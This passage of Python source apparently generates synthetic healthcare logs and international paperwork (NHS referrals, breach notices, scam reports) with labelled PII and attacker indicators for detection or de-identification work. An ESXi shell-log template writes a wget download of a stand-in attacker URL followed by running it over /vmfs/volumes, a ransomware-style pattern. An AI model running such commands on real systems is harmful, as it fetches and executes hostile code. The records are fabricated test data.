        d.t(") unlocked ").put(I(host, "HOSTNAME")).t("\n")
    d.put(N(when().strftime("%Y-%m-%d %H:%M:%S.") + digits(6) + "-0600", "LOGTIME")).t(f" 0x{ind.hexstr(R, 6)}   Error       0x0   {R.randint(100, 9999)}   0    ")
    d.t("XProtect: [com.apple.xprotect] detected ").put(malw()).t(" in /Users/").put(I(o.user(st), "USERNAME"))
    d.t("/Downloads/Invoice.dmg sha256 ").put(sha()).t("\n")
    d.put(N(when().strftime("%Y-%m-%d %H:%M:%S.") + digits(6) + "-0600", "LOGTIME")).t(f" 0x{ind.hexstr(R, 6)}   Default     0x0   {R.randint(100, 9999)}   0    ")
    d.t("networkd: connection to ").put(dom()).t(" (").put(ipx()).t(") from ").put(I(o.priv(), "IP")).t("\n")


def s_graylog(o, d):
    d.t("\"timestamp\",\"source\",\"message\"\n")
    for _ in range(R.randint(4, 6)):
        st = person("US")
        d.t("\"").put(N(ts_iso(when()), "LOGTIME")).t("\",\"").put(I(o.host().lower(), "HOSTNAME")).t("\",\"")
        k = R.random()
        if k < 0.4:
            d.t("EHR login ok user=").put(I(o.user(st), "USERNAME")).t(" ws=").put(I(o.host(), "HOSTNAME"))
        elif k < 0.7:
            p = person("US")
            d.t("chart opened pt=").put(I(p["full"], "NAME")).t(" mrn=").put(I(digits(8), "MRN")).t(" by ").put(I(o.user(st), "USERNAME"))
        else:
            d.t("outbound https ").put(dom()).t(" ip=").put(ipx()).t(" bytes=" + str(R.randint(10 ** 5, 10 ** 8)))
        d.t("\"\n")


def s_hylafax(o, d):
    d.t("# /var/spool/hylafax/etc/xferfaxlog (tab-separated)\n")
    for _ in range(R.randint(3, 5)):
        p = person("US")
        st = person("US")
        t = when()
        d.put(N(t.strftime("%m/%d/%y %H:%M"), "LOGTIME")).t("\tSEND\t" + digits(5) + "\tttyS0\t")
        d.put(I(o.user(st), "USERNAME")).t("\t\"\"\t").put(I(p["phone"].replace("(", "").replace(") ", "-"), "FAX"))
        d.t("\t\"Referral ").put(I(p["full"], "NAME")).t(" DOB ").put(I(mdy(p["dob"]), "DATE")).t("\"\t" + str(R.randint(1, 9)) + "\t0:" + str(R.randint(10, 59)) + "\t\"\"\n")
    d.put(N(when().strftime("%m/%d/%y %H:%M"), "LOGTIME")).t("\tRECV\t" + digits(5) + "\tttyS1\t\"\"\t\"\"\t")
    d.put(aphone("US")).t("\t\"URGENT invoice remit to ").put(aemail()).t("\"\t2\t0:41\t\"\"\n")


def s_print307(o, d):
    for _ in range(R.randint(3, 4)):
        st, p = person("US"), person("US")
        d.t("Log Name: Microsoft-Windows-PrintService/Operational\nEvent ID: 307\nDate: ")
        d.put(N(when().strftime("%m/%d/%Y %I:%M:%S %p"), "LOGTIME")).t("\nComputer: ").put(I(o.fqdn(), "HOSTNAME"))
        d.t("\nDescription:\nDocument " + str(R.randint(10, 400)) + ", Print Document owned by ").put(I(o.user(st), "USERNAME"))
        d.t(" on \\\\").put(I(o.host(), "HOSTNAME")).t(" was printed on ").put(I(f"{o.short}-{ch(['ED', 'ICU', 'OR', 'LAB'])}-MFP", "HOSTNAME"))
        d.t(" through port ").put(I(o.priv(), "IP")).t(". Document name: ")
        d.put(I(f"{p['last']}_{p['first']}", "NAME")).t("_discharge.pdf. Size in bytes: " + str(R.randint(10 ** 4, 10 ** 6)) + ".\n\n")
    d.t("(Analyst: the last job came from a session opened from ").put(ipx()).t(")\n")


def s_ehr_xml(o, d):
    d.t("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<AccessAudit facility=\"").put(I(o.short, "ORG")).t("\">\n")
    for _ in range(R.randint(3, 5)):
        p, st = person("US"), person("US")
        d.t("  <Access>\n    <When>").put(I(ts_iso(when(), False), "DATETIME")).t("</When>\n    <User id=\"")
        d.put(I(o.user(st), "USERNAME")).t("\">").put(I(st["full"], "NAME")).t("</User>\n    <Patient mrn=\"")
        d.put(I(digits(8), "MRN")).t("\">").put(I(p["full"], "NAME")).t("</Patient>\n    <Workstation>")
        d.put(I(o.host(), "HOSTNAME")).t("</Workstation>\n    <Action>" + ch(["ChartReview", "PrintAVS", "ViewDemographics", "ExportCCD"]) + "</Action>\n  </Access>\n")
    d.t("</AccessAudit>\n")


def s_pacs_qc(o, d):
    d.t("PACS QC / study merge log\n")
    for _ in range(R.randint(3, 4)):
        p, q, st = person("US"), person("US"), person("US")
        d.put(N(when().strftime("%Y%m%d %H%M%S"), "LOGTIME")).t(" MERGE acc=" + digits(9) + " from ")
        d.put(I(f"{p['last']}^{p['first']}", "NAME")).t(" [").put(I(digits(7), "MRN")).t("] into ")
        d.put(I(f"{q['last']}^{q['first']}", "NAME")).t(" [").put(I(digits(7), "MRN")).t("] by ").put(I(o.user(st), "USERNAME"))
        d.t(" at ").put(I(o.host(), "HOSTNAME")).t("\n")
    d.put(N(when().strftime("%Y%m%d %H%M%S"), "LOGTIME")).t(" C-MOVE request from AE STORESCU ").put(ipx()).t(" denied (unknown AE)\n")


def s_jumpcloud(o, d):
    recs = []
    for _ in range(R.randint(2, 4)):
        st = person("US")
        r = Doc()
        r.t("{\"event_type\": \"sso_auth\", \"timestamp\": \"").put(N(ts_iso(when()), "LOGTIME"))
        r.t("\", \"initiated_by\": {\"username\": \"").put(I(o.user(st), "USERNAME")).t("\", \"email\": \"")
        r.put(I(o.email(st), "EMAIL")).t("\"}, \"client_ip\": \"").put(I(ind.public_ipv4(R), "IP"))
        r.t("\", \"geoip\": {\"region_name\": \"").put(N(st.get("state", "MN"), "GEO")).t("\"}, \"success\": true}")
        recs.append(r)
    st = person("US")
    r = Doc()
    r.t("{\"event_type\": \"user_update\", \"timestamp\": \"").put(N(ts_iso(when()), "LOGTIME"))
    r.t("\", \"initiated_by\": {\"username\": \"").put(I(o.user(st), "USERNAME")).t("\"}, \"client_ip\": \"").put(ipx())
    r.t("\", \"changes\": {\"phone_number\": {\"from\": \"").put(I(st["phone"], "PHONE")).t("\", \"to\": \"").put(aphone("US"))
    r.t("\"}}, \"success\": true}")
    recs.append(r)
    for r in recs:
        d.put(r).t("\n")


def s_bitwarden(o, d):
    d.t("date,type,member,device,ip\n")
    for _ in range(R.randint(3, 5)):
        st = person("US")
        d.put(N(ts_iso(when()), "LOGTIME")).t("," + ch(["Logged in", "Viewed item", "Exported vault", "Copied password"]) + ",")
        d.put(I(o.email(st), "EMAIL")).t(",Chrome Extension,").put(I(ind.public_ipv4(R), "IP") if R.random() < 0.5 else I(o.priv(), "IP")).t("\n")
    st = person("US")
    d.put(N(ts_iso(when()), "LOGTIME")).t(",Exported vault,").put(I(o.email(st), "EMAIL")).t(",CLI,").put(ipx()).t("\n")


def s_mde_timeline(o, d):
    d.t("Event Time,Machine Id,Computer Name,Action Type,File Name,Folder Path,SHA256,Remote IP,Remote Url,Account Name\n")
    h = o.host()
    st = person("US")
    u = o.user(st)
    for _ in range(R.randint(4, 6)):
        k = R.random()
        d.put(N(ts_iso(when()), "LOGTIME")).t("," + ind.hexstr(R, 40) + ",").put(I(o.fqdn(h), "HOSTNAME"))
        if k < 0.4:
            d.t(",FileCreated,labs_export.xlsx,C:\\Users\\").put(I(u, "USERNAME")).t("\\Documents,,,,").put(I(u, "USERNAME"))
        elif k < 0.7:
            d.t(",ConnectionSuccess,,,,").put(ipx()).t(",").put(dom()).t(",").put(I(u, "USERNAME"))
        else:
            d.t(",ProcessCreated,svchost32.exe,C:\\ProgramData\\,").put(sha()).t(",,,").put(I(u, "USERNAME"))
        d.t("\n")


def s_imprivata(o, d):
    d.t("Imprivata OneSign - User Activity Report\nSite: ").put(I(o.name, "ORG")).t("\n\n")
    d.t("Date/Time            User                 Computer        Event               Modality\n")
    for _ in range(R.randint(4, 6)):
        st = person("US")
        d.put(N(when().strftime("%Y-%m-%d %H:%M"), "LOGTIME")).t("     ").put(I(f"{st['last']}, {st['first']}", "NAME")).t("  ")
        d.put(I(o.host(), "HOSTNAME")).t("  " + ch(["Authentication", "Fast User Switch", "Lock", "Logout"]) + "   " + ch(["Proximity card", "Fingerprint", "Password"]) + "\n")
    st = person("US")
    d.t("Note: ").put(I(st["first"], "NAME")).t("'s badge was enrolled again from ").put(ipx()).t(" using help-desk PIN reset.\n")


def s_infoblox(o, d):
    for _ in range(R.randint(4, 6)):
        t = when()
        d.put(N(t.strftime("%d-%b-%Y %H:%M:%S.") + digits(3), "LOGTIME")).t(" client @0x" + ind.hexstr(R, 12) + " ")
        d.put(I(o.priv(), "IP")).t("#" + str(R.randint(1024, 65000)) + " (")
        if R.random() < 0.5:
            dd = ind.domain(R)
            d.put(X(dd, "DOMAIN")).t("): query: ").put(X(dd, "DOMAIN"))
        else:
            h = o.fqdn()
            d.put(I(h, "HOSTNAME")).t("): query: ").put(I(h, "HOSTNAME"))
        d.t(" IN " + ch(["A", "AAAA", "TXT"]) + " + (" + ".".join(str(R.randint(1, 254)) for _ in range(4)) + ")\n")


def s_esxi_shell(o, d):
    host = f"esx{digits(2)}.{o.domain}"
    d.t("# /var/log/shell.log from ").put(I(host, "HOSTNAME")).t("\n")
    cmds = ["esxcli vm process list", "esxcli system account list", "cd /vmfs/volumes/datastore1",
            "ls -la", "vim-cmd vmsvc/getallvms"]
    for c in cmds[:R.randint(3, 5)]:
        d.put(N(ts_iso(when()), "LOGTIME")).t(" shell[" + str(R.randint(100000, 999999)) + "]: [root]: " + c + "\n")
    d.put(N(ts_iso(when()), "LOGTIME")).t(" shell[" + str(R.randint(100000, 999999)) + "]: [root]: wget ").put(urlx()).t(" -O /scratch/enc\n")
    d.put(N(ts_iso(when()), "LOGTIME")).t(" shell[" + str(R.randint(100000, 999999)) + "]: [root]: /scratch/enc --path /vmfs/volumes --note ").put(malw()).t("\n")
    st = person("US")
    d.t("# hostd: login root from ").put(ipx()).t("; earlier session by ").put(I(o.user(st), "USERNAME")).t(" from ").put(I(o.priv(), "IP")).t("\n")


MACHINE = [
    ("corepoint-activity-log", s_corepoint), ("iguana-channel-log", s_iguana),
    ("healthshare-event-log", s_healthshare), ("qvera-qie-error-report", s_qvera),
    ("auditd-raw-log", s_auditd_raw), ("sudo-sshd-syslog", s_sudo),
    ("horizon-connection-events-csv", s_horizon), ("macos-unified-log", s_macos),
    ("graylog-search-csv", s_graylog), ("hylafax-xferfaxlog", s_hylafax),
    ("printservice-307-text", s_print307), ("ehr-access-audit-xml", s_ehr_xml),
    ("pacs-qc-merge-log", s_pacs_qc), ("jumpcloud-events-jsonl", s_jumpcloud),
    ("bitwarden-events-csv", s_bitwarden), ("mde-device-timeline-csv", s_mde_timeline),
    ("imprivata-activity-report", s_imprivata), ("infoblox-query-log", s_infoblox),
    ("esxi-shell-log", s_esxi_shell),
]


# ---------------------------------------------------------------------------------------------
# paperwork and messages in English from outside the US


def addr_block(d, p, sep="\n"):
    d.put(I(p["street"], "ADDRESS")).t(sep).put(I(p["city"], "CITY"))
    if p["cc"] in ("CA", "AU"):
        d.t(" " + p["state"])
    d.t(sep if p["cc"] in ("GB", "IE", "IN", "NG") else " ").put(I(p["zip"], "ZIP"))


def title(p):
    return N(ch(["Mr", "Mrs", "Ms", "Miss", "Dr", "Mx"]), "TITLE")


def sign(d, o, st, role):
    d.t("\n\nYours sincerely,\n\n").put(I(st["full"], "NAME")).t("\n" + role + "\n").put(I(o.name, "ORG"))
    d.t("\nTel ").put(I(st["phone"], "PHONE")).t(" | ").put(I(o.email(st), "EMAIL")).t("\n")


def s_nhs_referral(o, d):
    p, gp, cons = person("GB"), person("GB"), person("GB")
    d.t("NHS e-Referral - Advice and Guidance request\nDate: ").put(N(dmy(when().date()), "LETTER_DATE"))
    d.t("\n\nPatient: ").put(title(p)).t(" ").put(I(p["full"], "NAME")).t("\nNHS No: ").put(I(p["natid"], "HEALTH_PLAN"))
    d.t("\nHospital No: ").put(I("RX" + digits(6), "MRN")).t("\nDOB: ").put(I(dmy(p["dob"]), "DATE")).t("\nAddress: ")
    addr_block(d, p, ", ")
    d.t("\nTel: ").put(I(p["phone"], "PHONE")).t("\n\nDear Dr ").put(I(cons["last"], "NAME")).t(",\n\n")
    d.t("I would be grateful for your advice about this patient. Please note that the patient received a text message claiming to be from our practice asking them to confirm their NHS number at ")
    d.put(urlx()).t(" and to call ").put(aphone("GB")).t(". We have reported it to the ICB.")
    d.t("\n\nKind regards\n\n").put(N("Dr", "TITLE")).t(" ").put(I(gp["full"], "NAME")).t("\nGMC ").put(I(digits(7), "LICENSE"))
    d.t("\n").put(I(o.name, "ORG")).t("\n")


def s_datix(o, d):
    p, st, rep = person("GB"), person("GB"), person("GB")
    d.t("DATIX INCIDENT REPORT (web form print)\nRef: W" + digits(6) + "\nIncident date: ").put(N(dmy(when().date()), "EVENTDATE"))
    d.t("\nLocation: ").put(I(o.name, "ORG")).t(" - " + ch(["Ward 12", "AMU", "Outpatients B", "Maternity"]) + "\nCategory: Information governance / confidentiality\n\n")
    d.t("Description:\nA printed handover sheet listing ").put(I(p["full"], "NAME")).t(" (NHS ").put(I(p["natid"], "HEALTH_PLAN"))
    d.t(", DOB ").put(I(dmy(p["dob"]), "DATE")).t(") was photographed and posted to a social media group. The account that posted it also e-mailed the ward from ")
    d.put(aemail()).t(" demanding payment in ").put(X(wallet(), "WALLET")).t(".\n")
    d.t("Staff involved: ").put(I(st["full"], "NAME")).t(" (Band 5), login ").put(I(o.user(st), "USERNAME")).t("\n")
    d.t("Reporter: ").put(I(rep["full"], "NAME")).t(", ext ").put(I(digits(5), "PHONE")).t("\nNI number on staff file: ").put(I(st["nino"], "SSN")).t("\n")


def s_ico(o, d):
    p, dpo = person("GB"), person("GB")
    d.t("ICO personal data breach report - draft\n\n1. Organisation: ").put(I(o.name, "ORG"))
    d.t("\n2. Data protection officer: ").put(I(dpo["full"], "NAME")).t(", ").put(I(o.email(dpo), "EMAIL")).t(", ").put(I(dpo["phone"], "PHONE"))
    d.t("\n3. When did the breach happen? ").put(N(long_date(when().date()), "EVENTDATE"))
    d.t("\n4. What happened? ").put(X(ch(ind.RANSOM), "MALWARE")).t(" ransomware encrypted the file server ").put(I(o.host(), "HOSTNAME"))
    d.t("; data was sent to ").put(ipx()).t(" before encryption. Example record found on the leak site: ")
    d.put(I(p["full"], "NAME")).t(", ").put(I(p["street"], "ADDRESS")).t(", ").put(I(p["city"], "CITY")).t(" ").put(I(p["zip"], "ZIP"))
    d.t(", NHS number ").put(I(p["natid"], "HEALTH_PLAN")).t(".\n5. Leak site: ").put(urlx()).t("\n6. Number of data subjects: approx. " + str(R.randint(200, 90000)) + "\n")


def s_nhsmail_fwd(o, d):
    p, st = person("GB"), person("GB")
    d.t("From: ").put(I(st["full"], "NAME")).t(" <").put(I(o.email(st), "EMAIL")).t(">\nSent: ").put(N(when().strftime("%d %B %Y %H:%M"), "MAILTIME"))
    d.t("\nTo: spamreports@nhs.net\nSubject: FW: Your NHS prescription payment\n\nForwarding as a patient, ").put(I(p["full"], "NAME"))
    d.t(", rang reception to say they got this. Their own number is ").put(I(p["phone"], "PHONE")).t(" and the message came from ").put(aphone("GB"))
    d.t(".\n\n-----Original Message-----\nFrom: NHS Prescriptions <").put(aemail(False)).t(">\n")
    d.t("Your prescription exemption has expired. Pay the \u00a335 penalty at ").put(urlx()).t(" within 24 hours.\n\n")
    d.put(I(st["first"], "NAME")).t("\nIT Service Desk, ").put(I(o.name, "ORG")).t("\n")


def s_phipa(o, d):
    p, po = person("CA"), person("CA")
    d.put(N(long_date(when().date()), "LETTER_DATE")).t("\n\n").put(title(p)).t(" ").put(I(p["full"], "NAME")).t("\n")
    addr_block(d, p)
    d.t("\n\nRe: Notice of a privacy breach under PHIPA\n\nDear ").put(I(p["first"], "NAME")).t(",\n\n")
    d.t("We are writing to tell you that on ").put(N(long_date(when().date()), "EVENTDATE")).t(" an employee of ").put(I(o.name, "ORG"))
    d.t(" viewed your health record without a work-related reason. The record included your health card number ending ")
    d.put(I(p["health"][-6:], "HEALTH_PLAN")).t(", your date of birth (").put(I(p["dob"].isoformat(), "DATE")).t(") and your telephone number ")
    d.put(I(p["phone"], "PHONE")).t(". You have the right to complain to the Information and Privacy Commissioner of Ontario.")
    sign(d, o, po, "Chief Privacy Officer")


def s_ca_access_memo(o, d):
    st, mgr = person("CA"), person("CA")
    d.t("MEMO - access review\nTo: ").put(I(mgr["full"], "NAME")).t("\nFrom: Privacy Office, ").put(I(o.name, "ORG")).t("\nDate: ").put(N(when().date().isoformat(), "LETTER_DATE"))
    d.t("\n\nThe quarterly audit flagged user ").put(I(o.user(st), "USERNAME")).t(" (").put(I(st["full"], "NAME")).t(") for the following look-ups:\n\n")
    for _ in range(R.randint(3, 4)):
        p = person("CA")
        d.t(" - ").put(I(when().strftime("%Y-%m-%d %H:%M"), "DATETIME")).t("  ").put(I(p["full"], "NAME")).t("  HCN ")
        d.put(I(p["health"], "HEALTH_PLAN")).t("  ").put(I(p["city"], "CITY")).t(" " + p["state"] + "\n")
    d.t("\nThe sessions came from ").put(I(o.host(), "HOSTNAME")).t(" and, twice, from a home address ").put(I(ind.public_ipv4(R), "IP")).t(". SIN on the HR file: ").put(I(st["natid"], "SSN")).t(".\n")


def s_au_ndb(o, d):
    p = person("AU")
    d.t("Notifiable Data Breach - statement to individuals\n").put(I(o.name, "ORG")).t("\n").put(N(dmy(when().date()), "LETTER_DATE")).t("\n\n")
    d.t("To ").put(I(p["full"], "NAME")).t(", ").put(I(p["street"], "ADDRESS")).t(", ").put(I(p["city"], "CITY")).t(" " + p["state"] + " ").put(I(p["zip"], "ZIP"))
    d.t("\n\nOn ").put(N(dmy(when().date()), "EVENTDATE")).t(" a criminal group calling itself ").put(X(ch(ACTORS), "ACTOR"))
    d.t(" accessed our patient administration system. The information involved about you includes your Medicare number ").put(I(p["health"], "HEALTH_PLAN"))
    d.t(", Individual Healthcare Identifier ").put(I(p["ihi"], "HEALTH_PLAN")).t(" and mobile ").put(I(p["phone"], "PHONE"))
    d.t(".\nWe will never call you from a private number. Scam calls reported so far came from ").put(aphone("AU")).t(".\nIDCARE can help: ").put(N("1800 595 160", "ORG_PHONE")).t(".\n")


def s_au_path(o, d):
    p, dr = person("AU"), person("AU")
    d.t("PATHOLOGY REQUEST\nRequesting practitioner: ").put(N("Dr", "TITLE")).t(" ").put(I(dr["full"], "NAME")).t("  Provider no. ").put(I(digits(6) + upper(2), "LICENSE"))
    d.t("\nPatient surname: ").put(I(p["last"].upper(), "NAME")).t("   Given names: ").put(I(p["first"], "NAME")).t("\nDOB: ").put(I(dmy(p["dob"]), "DATE"))
    d.t("   Sex: " + ch("MF") + "\nAddress: ").put(I(p["street"], "ADDRESS")).t(" ").put(I(p["city"].upper(), "CITY")).t(" " + p["state"] + " ").put(I(p["zip"], "ZIP"))
    d.t("\nMedicare No: ").put(I(p["health"], "HEALTH_PLAN")).t("   Phone: ").put(I(p["phone"], "PHONE"))
    d.t("\nTests: " + ch(["FBE, UEC, LFT", "HbA1c, lipids", "INR", "TFT, B12, folate"]) + "\nCollected: ").put(I(dmy(when().date()), "DATE"))
    d.t("\n\n[scanned copy attached to e-mail from ").put(aemail()).t(" asking the lab to resend all results]\n")


def s_au_sms(o, d):
    p, st = person("AU"), person("AU")
    d.t("Scam report (staff intranet form)\nReported by: ").put(I(st["full"], "NAME")).t(", ").put(I(o.email(st), "EMAIL"))
    d.t("\nDate: ").put(N(dmy(when().date()), "EVENTDATE")).t("\n\nPatient ").put(I(p["full"], "NAME")).t(" (mobile ").put(I(p["phone"], "PHONE"))
    d.t(") showed us an SMS:\n\n  \"").put(I(o.name, "ORG")).t(": your appointment is on hold. Confirm your Medicare card at ").put(urlx()).t(" or call ").put(aphone("AU")).t("\"\n\n")
    d.t("Sender ID was spoofed. The page asked for Medicare number, DOB and card IRN.\n")


def s_ie_nirf(o, d):
    p, st = person("IE"), person("IE")
    d.t("National Incident Report Form (NIRF-01)\nService: ").put(I(o.name, "ORG")).t("\nDate of incident: ").put(N(dmy(when().date()), "EVENTDATE"))
    d.t("\nPerson affected: ").put(I(p["full"], "NAME")).t("  PPSN: ").put(I(p["natid"], "SSN")).t("\nMedical card no.: ").put(I(p["health"], "HEALTH_PLAN"))
    d.t("\nAddress: ").put(I(p["street"], "ADDRESS")).t(", ").put(I(p["city"], "CITY")).t(", ").put(I(p["zip"], "ZIP"))
    d.t("\nDescription: a caller saying they were from the HSE payments office rang the patient on ").put(I(p["phone"], "PHONE"))
    d.t(" from ").put(aphone("IE")).t(" and quoted the MRN ").put(I(digits(7), "MRN")).t(". Staff member informed: ").put(I(st["full"], "NAME")).t(".\n")


def s_ie_email(o, d):
    st, p = person("IE"), person("IE")
    d.t("From: ").put(I(o.email(st), "EMAIL")).t("\nTo: ict.security@").put(I(o.domain, "HOSTNAME")).t("\nDate: ").put(N(when().strftime("%a %d %b %Y %H:%M"), "MAILTIME"))
    d.t("\nSubject: odd remote session on ").put(I(o.host(), "HOSTNAME")).t("\n\nHi all,\n\nA man rang the ward saying he was from the PAS vendor and asked me to open the support tool and read him the number. I gave him ")
    d.put(X(remote_id(), "REMOTE_ID")).t(" before I copped on. He had the chart of ").put(I(p["full"], "NAME")).t(" (Eircode ").put(I(p["zip"], "ZIP")).t(") open for a few minutes. His number was ")
    d.put(aphone("IE")).t(".\n\nThanks,\n").put(I(st["first"], "NAME")).t("\nCNM2, ").put(I(o.name, "ORG")).t("\n")


def s_in_tpa(o, d):
    p, dr = person("IN"), person("IN")
    d.t("REQUEST FOR CASHLESS HOSPITALISATION (PRE-AUTHORISATION)\nHospital: ").put(I(o.name, "ORG")).t("  ROHINI ID: " + digits(13))
    d.t("\n\nName of patient: ").put(I(p["full"], "NAME")).t("\nPolicy no.: ").put(I(digits(4) + "/" + digits(8), "HEALTH_PLAN")).t("   ABHA no.: ").put(I(p["health"], "HEALTH_PLAN"))
    d.t("\nPAN: ").put(I(p["natid"], "SSN")).t("\nDate of birth: ").put(I(dmy(p["dob"], "-"), "DATE")).t("\nAddress: ")
    addr_block(d, p, ", ")
    d.t("\nContact: ").put(I(p["phone"], "PHONE")).t("\nTreating doctor: ").put(N("Dr.", "TITLE")).t(" ").put(I(dr["full"], "NAME")).t(" (Reg. no. ").put(I("KMC " + digits(5), "LICENSE"))
    d.t(")\nUHID: ").put(I("UH" + digits(8), "MRN")).t("\n\nRemarks: TPA desk received a call from ").put(aphone("IN")).t(" asking to redirect the claim amount to UPI id ")
    d.put(X(f"{ch(['refund', 'claimdesk', 'tpahelp'])}{digits(3)}@{ch(['ybl', 'okaxis', 'paytm'])}", "BANK_ATTACKER")).t(".\n")


def s_in_scam(o, d):
    p, st = person("IN"), person("IN")
    d.t("Incident note - OPD reception\nDate: ").put(N(dmy(when().date()), "EVENTDATE")).t("\n\n")
    d.put(I(p["full"], "NAME")).t(" (UHID ").put(I("UH" + digits(8), "MRN")).t(", mob ").put(I(p["phone"], "PHONE")).t(") says someone called from ")
    d.put(aphone("IN")).t(" saying a refund of Rs 4,850 from ").put(I(o.name, "ORG")).t(" was pending and sent a link ").put(urlx())
    d.t(". Patient entered Aadhaar-linked OTP. Amount debited. Patient lives at ").put(I(p["street"], "ADDRESS")).t(", ").put(I(p["city"], "CITY")).t(" ").put(I(p["zip"], "ZIP"))
    d.t(".\nNoted by ").put(I(st["full"], "NAME")).t(", ext ").put(I(digits(4), "PHONE")).t(". Cyber crime helpline 1930 informed.\n")


def s_ng_hmo(o, d):
    p, st = person("NG"), person("NG")
    d.t("From: ").put(I(o.email(st), "EMAIL")).t("\nTo: authorisation@claims-hmo.com.ng\nDate: ").put(N(when().strftime("%d/%m/%Y %H:%M"), "MAILTIME")).t("\nSubject: Request for authorisation code - ").put(I(p["full"], "NAME"))
    d.t("\n\nGood day,\n\nKindly issue an authorisation code for our enrollee below.\n\nName: ").put(I(p["full"], "NAME")).t("\nEnrollee ID: ").put(I(p["health"], "HEALTH_PLAN"))
    d.t("\nNIN: ").put(I(p["natid"], "SSN")).t("\nDOB: ").put(I(dmy(p["dob"]), "DATE")).t("\nPhone: ").put(I(p["phone"], "PHONE"))
    d.t("\nDiagnosis: " + ch(["malaria", "typhoid fever", "hypertension", "pneumonia"]) + "\n\nNB: please disregard the mail from ").put(aemail())
    d.t(" that claims our account details changed; it is not from us.\n\nThank you.\n").put(I(st["full"], "NAME")).t("\nHMO Desk, ").put(I(o.name, "ORG")).t("\n")


def s_ng_handover(o, d):
    d.t("WARD HANDOVER BOOK (typed copy) - ").put(I(o.name, "ORG")).t("\nNight of ").put(N(dmy(when().date()), "EVENTDATE")).t("\n\n")
    for i in range(R.randint(3, 4)):
        p = person("NG")
        age = R.randint(90, 101) if R.random() < 0.25 else R.randint(20, 85)
        d.t(f"Bed {R.randint(1, 30)}: ").put(I(p["full"], "NAME")).t(", ").put(I(f"{age}yrs", "AGE") if age > 89 else N(f"{age}yrs", "AGE_UNDER_90")).t(", hosp no ").put(I(digits(6), "MRN"))
        d.t(". " + ch(["Stable, on IV fluids.", "Febrile overnight, for review.", "Awaiting scan.", "Discharge in morning."]))
        d.t(" NOK ").put(I(person("NG")["first"], "NAME")).t(" ").put(I(person("NG")["phone"], "PHONE")).t("\n")
    nurse = person("NG")
    d.t("\nIT: the ward laptop ").put(I(o.host(), "HOSTNAME")).t(" showed a pop-up asking to call ").put(aphone("NG")).t(" (fake Microsoft support). Left as is for ICT.\nHanded over by ").put(I(nurse["full"], "NAME")).t("\n")


def s_ph_cf1(o, d):
    p = person("PH")
    d.t("PHILHEALTH CLAIM FORM 1 (encoded)\nPhilHealth Identification Number (PIN): ").put(I(p["health"], "HEALTH_PLAN"))
    d.t("\nName of member: ").put(I(p["last"].upper(), "NAME")).t(", ").put(I(p["first"].upper(), "NAME"))
    d.t("\nDate of birth: ").put(I(f"{p['dob'].month:02d}-{p['dob'].day:02d}-{p['dob'].year}", "DATE")).t("\nPhilSys Card Number: ").put(I(p["natid"], "SSN"))
    d.t("\nMailing address: ").put(I(p["street"], "ADDRESS")).t(", ").put(I(p["city"], "CITY")).t(" ").put(I(p["zip"], "ZIP"))
    d.t("\nContact no.: ").put(I(p["phone"], "PHONE")).t("\nHealth care institution: ").put(I(o.name, "ORG"))
    d.t("\nConfinement: ").put(I(f"{when().month:02d}-{R.randint(1, 28):02d}-2025", "DATE")).t("\n\nRemarks (billing): member reports a text from ").put(aphone("PH"))
    d.t(" asking her to pay the balance via GCash to ").put(X("09" + digits(9), "BANK_ATTACKER")).t(".\n")


def s_ph_viber(o, d):
    mem = [person("PH") for _ in range(3)]
    d.t("Viber group: ").put(I(o.name, "ORG")).t(" ER nurses\n")
    p = person("PH")
    lines = [
        ("Good eve po. Pt ", [I(p["full"], "NAME"), " bed 4, PhilHealth ", I(p["health"], "HEALTH_PLAN"), " for admission"]),
        ("Noted. Yung relative niya ", [I(person("PH")["first"], "NAME"), " contact ", I(p["phone"], "PHONE")]),
        ("Guys may nag-text sa akin from ", [aphone("PH"), " nagpapanggap na IT, pinapa-click ", urlx()]),
        ("Wag i-click! Report na kay IT, user ko ", [I(o.user(mem[0]), "USERNAME"), " na-lock din kanina"]),
    ]
    for txt, rest in lines:
        m = ch(mem)
        d.t("[").put(N(when().strftime("%d/%m/%Y, %I:%M %p"), "LOGTIME")).t("] ").put(I(m["full"], "NAME")).t(": " + txt)
        d.put(rest).t("\n")


def s_za_preauth(o, d):
    p, st = person("ZA"), person("ZA")
    d.put(I(o.name, "ORG")).t("\nCase management\n").put(N(when().strftime("%Y/%m/%d"), "LETTER_DATE")).t("\n\nPre-authorisation request\n\nMember: ")
    d.put(I(p["full"], "NAME")).t("\nID number: ").put(I(p["natid"], "SSN")).t("\nMedical aid no.: ").put(I(p["health"], "HEALTH_PLAN"))
    d.t("  Dependant code: 0" + str(R.randint(0, 4)) + "\nResidential address: ").put(I(p["street"], "ADDRESS")).t(", ").put(I(p["city"], "CITY")).t(", ").put(I(p["zip"], "ZIP"))
    d.t("\nCell: ").put(I(p["phone"], "PHONE")).t("\nAdmitting doctor: ").put(N("Dr", "TITLE")).t(" ").put(I(person("ZA")["full"], "NAME")).t(" (HPCSA ").put(I("MP " + digits(7), "LICENSE")).t(")")
    d.t("\n\nWarning from the scheme: fraudsters using ").put(aemail()).t(" and ").put(aphone("ZA")).t(" are asking members for OTPs.\n\nRegards\n").put(I(st["full"], "NAME")).t("\n")


def s_sg_pdpc(o, d):
    p, dpo = person("SG"), person("SG")
    d.t("Notification to the PDPC - data breach (summary)\nOrganisation: ").put(I(o.name, "ORG")).t("\nDPO: ").put(I(dpo["full"], "NAME"))
    d.t(" (").put(I(dpo["phone"], "PHONE")).t(")\nDate of discovery: ").put(N(dmy(when().date()), "EVENTDATE"))
    st = person("SG")
    d.t("\n\nA staff account (").put(I(o.user(st), "USERNAME")).t(") signed in from ").put(ipx()).t(" after a phishing page at ").put(urlx()).t(" captured its password. Sample affected record:\n  ")
    d.put(I(p["full"], "NAME")).t(", NRIC ").put(I(p["natid"], "SSN")).t(", ").put(I(p["street"], "ADDRESS")).t(", Singapore ").put(I(p["zip"], "ZIP"))
    d.t(", mobile ").put(I(p["phone"], "PHONE")).t("\nMalware found: ").put(malw()).t(" (").put(X("T1566.002", "MITRE")).t(")\n")


PAPER = [
    ("nhs-ers-advice-referral", s_nhs_referral, "GB"), ("datix-incident-print", s_datix, "GB"),
    ("ico-breach-report-draft", s_ico, "GB"), ("nhsmail-spam-forward", s_nhsmail_fwd, "GB"),
    ("phipa-breach-notice-letter", s_phipa, "CA"), ("ca-access-audit-memo", s_ca_access_memo, "CA"),
    ("au-ndb-statement", s_au_ndb, "AU"), ("au-pathology-request", s_au_path, "AU"),
    ("au-scam-sms-intranet-report", s_au_sms, "AU"), ("ie-nirf-incident-form", s_ie_nirf, "IE"),
